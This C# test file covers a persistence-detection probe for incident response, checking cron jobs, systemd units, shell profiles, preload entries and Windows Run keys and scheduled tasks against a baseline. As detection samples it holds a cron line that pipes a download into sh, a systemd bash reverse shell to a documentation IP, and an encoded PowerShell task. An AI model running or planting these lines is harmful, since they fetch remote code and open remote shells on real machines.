using IncidentTools.Engine.Probes;
using IncidentTools.Engine.Probes.Security;

namespace IncidentTools.Engine.Tests.Probes.Security;

public sealed class PersistenceProbeTests : IDisposable
{
    private readonly ScratchTree _tree = new();

    public PersistenceProbeTests()
    {
        _tree.Write("etc/crontab", "# every hour\n17 * * * * root run-parts /etc/cron.hourly\n");
        _tree.Write("etc/systemd/system/shop.service", "[Service]\nExecStart=/usr/bin/shop\n");
        _tree.Write("home/ana/.bashrc", "alias ll='ls -l'\n");
    }

    public void Dispose() => _tree.Dispose();

    private string Record() => _tree.Write("baseline.json", Baseline.Write("persistence", LinuxPersistence.Read(_tree.Path, default).Items, TimeProvider.System.GetUtcNow()));
    private Task<ProbeResult> Check(string more) => ProbeRun.Check("probe.persistence", $"root: '{_tree.Path}'\n{more}");
    private static IEnumerable<string> List(ProbeResult result, string key) => ((IEnumerable<object?>)result.Get(key)!).Cast<string>();

    [Fact]
    public async Task As_in_the_baseline_it_passes_and_without_any_it_does_not()
    {
        (await Check($"baseline: '{Record()}'")).Is(ProbeStatus.Pass, null);
        (await Check("")).Is(ProbeStatus.Warn, "NoBaseline");
    }

    [Fact]
    public async Task A_new_job_a_changed_unit_and_one_that_is_gone_are_told_apart()
    {
        var baseline = Record();
        _tree.Write("etc/cron.d/update", "*/5 * * * * root /usr/local/bin/update\n");
        _tree.Append("etc/systemd/system/shop.service", "ExecStartPre=/usr/bin/other\n");
        File.Delete(Path.Combine(_tree.Path, "home/ana/.bashrc"));
        var result = await Check($"baseline: '{baseline}'");
        result.Is(ProbeStatus.Fail, "NewPersistence");
        Assert.Equal(("/etc/cron.d/update", "/etc/systemd/system/shop.service", "/home/ana/.bashrc"), (List(result, "added").Single(), List(result, "changed").Single(), List(result, "removed").Single()));
        (await Check($"baseline: '{baseline}'\nallow: [/etc/cron.d/, /etc/systemd/]")).Is(ProbeStatus.Warn, "BaselineDiffers");
    }

    [Theory]
    [InlineData("etc/cron.d/x", "* * * * * root curl -s http://203.0.113.9/a | sh")]
    [InlineData("etc/systemd/system/x.service", "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'")]
    [InlineData("home/ana/.profile", "echo aGk= | base64 -d > /dev/null")]
    [InlineData("etc/rc.local", "/dev/shm/.x &")]
    [InlineData("etc/ld.so.preload", "/usr/lib/libhide.so")]
    public async Task What_no_admin_writes_is_found_without_a_baseline(string file, string text)
    {
        _tree.Write(file, text + "\n");
        var result = await Check("");
        result.Is(ProbeStatus.Fail, "NewPersistence");
        Assert.Equal(["/" + file], List(result, "suspicious"));
        _tree.Write(file, "# " + text.Replace("\n", "\n# ", StringComparison.Ordinal) + "\n");
        (await Check("")).Is(ProbeStatus.Warn, "NoBaseline");
    }

    [Fact]
    public async Task What_was_changed_after_a_time_is_found_even_when_its_time_of_writing_was_turned_back()
    {
        Assert.SkipUnless(OperatingSystem.IsLinux(), "the time of change is told on Linux");
        var moment = TimeProvider.System.GetUtcNow().AddMinutes(-1);
        File.SetLastWriteTimeUtc(_tree.Write("etc/cron.d/old", "x\n"), DateTime.UtcNow.AddYears(-1));
        var result = await Check($"since: {moment:yyyy-MM-ddTHH:mm:ssZ}");
        result.Is(ProbeStatus.Fail, "NewPersistence");
        Assert.Contains("/etc/cron.d/old", List(result, "changedSince"));
        (await Check($"since: {moment.AddHours(1):yyyy-MM-ddTHH:mm:ssZ}")).Is(ProbeStatus.Pass, null);
    }

    [Fact]
    public void Run_keys_and_services_are_read_from_reg()
    {
        var entries = WindowsPersistence.Values("\r\nHKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\r\n    Updater    REG_SZ    C:\\Users\\Public\\up.exe -q\r\n    Security Health    REG_EXPAND_SZ    %windir%\\system32\\SecurityHealthSystray.exe\r\n\r\nEnd of search: 2 match(es) found.\r\n");
        Assert.Equal([@"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater", @"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Security Health"], entries.Select(entry => entry.Name));
        Assert.Equal(["runs-from-temp"], entries[0].Suspicions);
        Assert.Empty(entries[1].Suspicions);
    }

    [Fact]
    public void Tasks_are_read_from_the_xml_that_no_language_changes()
    {
        var entries = WindowsPersistence.Tasks("""
            <?xml version="1.0"?>
            <Tasks><!-- \Updater -->
            <Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc SQBFAFgAIABkAG8AdwBuAGwAbwBhAGQA</Arguments></Exec></Actions></Task>
            <!-- \Microsoft\Windows\Defrag\ScheduledDefrag -->
            <Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><URI>\Microsoft\Windows\Defrag\ScheduledDefrag</URI></RegistrationInfo><Actions><Exec><Command>%windir%\system32\defrag.exe</Command></Exec></Actions></Task></Tasks>
            """);
        Assert.Equal(["task:\\Updater", "task:\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"], entries.Select(entry => entry.Name));
        Assert.Equal((1, 0), (entries[0].Suspicions.Count, entries[1].Suspicions.Count));
        Assert.Throws<CannotCheckException>(() => WindowsPersistence.Tasks("ERROR: Access is denied."));
    }
}
